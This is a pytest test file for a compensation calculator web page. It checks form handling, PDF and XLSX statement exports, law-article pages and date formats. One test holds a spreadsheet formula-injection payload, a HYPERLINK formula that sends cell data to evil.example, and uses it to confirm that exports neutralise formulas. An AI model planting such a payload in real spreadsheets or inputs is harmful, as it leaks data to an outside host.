"""The calculation page: form or case file in, the engine's statement out, differences side by side."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

import compensation
from calculator import form as case_form
from core.classifiers import Role

EXAMPLES = Path(__file__).resolve().parents[3].parent / "shared" / "contract" / "examples"


def _example(name: str) -> dict:
    path = EXAMPLES / f"{name}.case.json"
    if not path.exists():
        pytest.skip("the shared contract examples are not beside the repository")
    return json.loads(path.read_text(encoding="utf-8"))


def _form(case: dict) -> dict[str, object]:
    """The calculator's form fields for a case, as a browser would post them."""
    data: dict[str, object] = {}
    for name, value in case_form.form_values(case).items():
        if isinstance(value, bool):
            if value:
                data[name] = "1"
        elif isinstance(value, list):
            data[name] = value
        elif value is not None:
            data[name] = str(value)
    if case.get("parameters"):
        data["parameters_json"] = json.dumps(case["parameters"])
        for key in [k for k in data if k.startswith("parameters.")]:
            del data[key]
    return data


@pytest.fixture
def officer(make_user, login_as):
    return login_as(make_user(Role.SAFETY_OFFICER))


def test_the_form_round_trips_a_case_to_the_same_figures_as_the_engine(officer):
    case = _example("02_injury_fault_and_payments")
    expected = compensation.calculate(case)

    response = officer.post("/compensation/calculator", data=_form(case))

    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert 'data-total="accrued">' + "1\u00a0066\u00a0509,68" in page
    assert expected["totals"]["accrued"] == "1066509.68"
    assert page.count("<tr") >= len(expected["installments"])


def test_an_uploaded_case_file_is_calculated_and_its_parameters_kept(officer):
    case = _example("03_death_two_children")

    response = officer.post(
        "/compensation/calculator",
        data={"case_file": (io.BytesIO(json.dumps(case).encode()), "case.json")},
        content_type="multipart/form-data",
    )

    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "11\u00a0032\u00a0258,06" in page
    assert "parameters_json" in page
    assert "/compensation/law/252" in page


def test_changing_one_input_shows_the_difference(officer):
    case = _example("01_injury_group3")
    data = _form(case)
    data["baseline"] = json.dumps(case)
    data["liability.victim_gross_negligence_percent"] = "10"

    page = officer.post("/compensation/calculator", data=data).get_data(as_text=True)

    assert 'id="comparison"' in page
    assert "1\u00a0042\u00a0295,83" in page  # the accrued total before


def test_invalid_input_reshows_the_form_with_the_field_named(officer):
    case = _example("01_injury_group3")
    data = _form(case)
    data["liability.victim_gross_negligence_percent"] = "100"

    response = officer.post("/compensation/calculator", data=data)

    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert 'data-field="liability.victim_gross_negligence_percent"' in page
    assert 'value="27000.00"' in page  # what was typed is kept


def test_a_file_that_is_not_json_is_a_field_error(officer):
    response = officer.post(
        "/compensation/calculator",
        data={"case_file": (io.BytesIO(b"{not json"), "case.json")},
        content_type="multipart/form-data",
    )

    assert response.status_code == 422
    assert 'data-field="case_file"' in response.get_data(as_text=True)


def test_the_statement_downloads_as_pdf_and_xlsx_with_the_engine_figures(officer):
    case = _example("02_injury_fault_and_payments")
    data = _form(case)

    pdf = officer.post("/compensation/calculator/statement.pdf", data=data)
    xlsx = officer.post("/compensation/calculator/statement.xlsx", data=data)

    assert pdf.mimetype == "application/pdf"
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.data)).pages)
    assert "924 000,00" in text
    sheet = load_workbook(io.BytesIO(xlsx.data)).worksheets[0]
    amounts = [row[3] for row in sheet.iter_rows(values_only=True) if row and len(row) > 3]
    assert 924000 in amounts


def test_the_trace_links_to_the_article_text(officer):
    page = officer.get("/compensation/law/247").get_data(as_text=True)

    assert "Единовременное пособие потерпевшему" in page
    assert officer.get("/compensation/law/999").status_code == 404


def test_the_calculator_needs_a_session(client):
    assert client.get("/compensation/calculator").status_code == 302


def test_the_articles_of_both_codes_and_the_civil_code_are_served(login_as, make_user):
    client = login_as(make_user(Role.INSPECTOR))

    old = client.get("/compensation/law/235").get_data(as_text=True)
    new = client.get("/compensation/law/lc-2025/219").get_data(as_text=True)
    civil = client.get("/compensation/law/cc/1011").get_data(as_text=True)

    assert "Статья 235" in old
    assert "Единовременное пособие" in new
    assert "2025" in new
    assert "1011" in civil
    assert "Гражданский кодекс" in civil
    assert client.get("/compensation/law/lc-2025/247").status_code == 404  # no such article in chapter 21
    assert client.get("/compensation/law/xx/1").status_code == 404


def test_a_trace_of_2026_links_each_figure_to_the_2025_code(login_as, make_user):
    from compensation import law

    assert [(c.code, c.number) for c in law.cited("LC-2025 214, 210(3); CC 1011(4)")] == [
        ("LC-2025", "214"),
        ("LC-2025", "210"),
        ("CC", "1011"),
    ]
    assert [(c.code, c.number) for c in law.cited("235, 230")] == [("LC-2004", "235"), ("LC-2004", "230")]


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_statement_workbook_keeps_a_formula_like_name_as_text(app, start):
    from calculator.documents import statement_xlsx

    hostile = start + HOSTILE[1:]
    case = {"calculation_date": "2026-11-26", "survivors": [{"id": "s1", "name": hostile}]}
    item = {
        "component": hostile,
        "recipient": "s1",
        "period": hostile,
        "amount": "100.00",
        "due_date": "2026-11-30",
        "paid": "0",
        "outstanding": "100.00",
        "days_overdue": 0,
        "penalty": "0",
    }
    result = {
        "average_monthly_earnings": {"amount": "5000.00", "method": hostile},
        "installments": [item],
        "totals": {"accrued": "100.00"},
        "trace": [{"article": hostile, "rule": hostile, "result": hostile}],
    }
    with app.test_request_context():
        body = statement_xlsx(case, result, hostile)

    book = load_workbook(io.BytesIO(body))
    texts = [c for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
    kept = ("'" + hostile).replace("\r", "\n")  # XML reads a CR back as a line feed
    assert texts.count(kept) >= 8  # title, method, component, name, period, the trace's three
    assert not [c for c in texts if isinstance(c, str) and c.startswith(start.replace("\r", "\n"))]
    assert 100 in texts  # numbers stay numbers


@pytest.mark.parametrize("lang", ["ru", "ky"])
def test_the_statement_writes_dates_as_people_do_and_its_workbook_holds_real_dates(officer, lang):
    import re
    from datetime import datetime

    data = _form(_example("02_injury_fault_and_payments"))
    officer.get(f"/lang/{lang}")

    pdf = officer.post("/compensation/calculator/statement.pdf", data=data)
    xlsx = officer.post("/compensation/calculator/statement.xlsx", data=data)

    pages = [p.extract_text() for p in PdfReader(io.BytesIO(pdf.data)).pages]
    # The statement's own pages; the trace that follows quotes the engine's rules (issue 14 has them to do).
    text = "".join(pages[:-1])
    assert re.search(r"\b\d\d\.\d\d\.20\d\d\b", text)
    assert not re.search(r"\b20\d\d-\d\d(-\d\d)?\b", text)
    sheet = load_workbook(io.BytesIO(xlsx.data)).worksheets[0]
    header = next(r for r in sheet.iter_rows(min_row=1) if r[0].value and r[4].value and r[3].value)
    assert sheet.freeze_panes == f"A{header[0].row + 1}"
    due = [row[4] for row in sheet.iter_rows(min_row=header[0].row + 1) if isinstance(row[4].value, datetime)]
    assert due
    assert all(cell.number_format == "DD.MM.YYYY" for cell in due)
    assert sheet["B2"].is_date
    assert all(
        sheet.cell(row, 5).value is None or sheet.cell(row, 5).is_date
        for row in range(header[0].row + 1, sheet.max_row + 1)
    )


def test_add_a_survivor_without_javascript_shows_the_form_again_with_one_more_row_kept_as_typed(officer):
    """The "Add a survivor" button posts the form when the browser runs no script: the form comes back
    with what was typed and one more blank row (4 offered, 5 after), nothing calculated."""
    blank = officer.get("/compensation/calculator").get_data(as_text=True)
    data = {f"survivors.{i}.relation": "" for i in range(4)}
    data |= {"survivors.0.id": "s1", "survivors.0.relation": "дочь", "case_type": "death"}
    data["add_row"] = "survivors"

    page = officer.post("/compensation/calculator", data=data).get_data(as_text=True)

    assert 'id="f-survivors.3.id"' in blank
    assert 'id="f-survivors.4.id"' not in blank
    assert 'id="f-survivors.4.id"' in page
    assert 'id="f-survivors.5.id"' not in page
    assert re.search(r'id="f-survivors\.4\.relation" value="" aria-label="[^"]+, строка 5"', page)
    assert 'value="дочь"' in page
    assert "data-total=" not in page  # not calculated
    assert 'formaction="/compensation/calculator#survivors"' in page
